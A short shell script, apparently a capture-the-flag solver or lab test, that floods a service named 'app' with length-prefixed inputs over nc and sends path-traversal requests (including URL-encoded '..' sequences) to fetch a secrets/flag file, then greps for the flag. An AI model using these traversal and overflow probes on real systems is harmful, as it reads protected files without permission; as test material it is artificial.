#-- notes of many lengths, and the file by its name
for length in 64 128 256 512 1000 9999 -1; do
    { echo "$length"; head -c 1000 /dev/zero | tr '\0' A; } | nc -N -w 5 app 4000
done > /tmp/answers
for path in ../secrets/flag %2e%2e/%2e%2e/secrets/flag /srv/secrets/flag labels/../../../secrets/flag; do
    curl -s --path-as-is "http://app:8081/$path"
done >> /tmp/answers
grep -a -o 'flag{[0-9a-f]*}' /tmp/answers || echo none
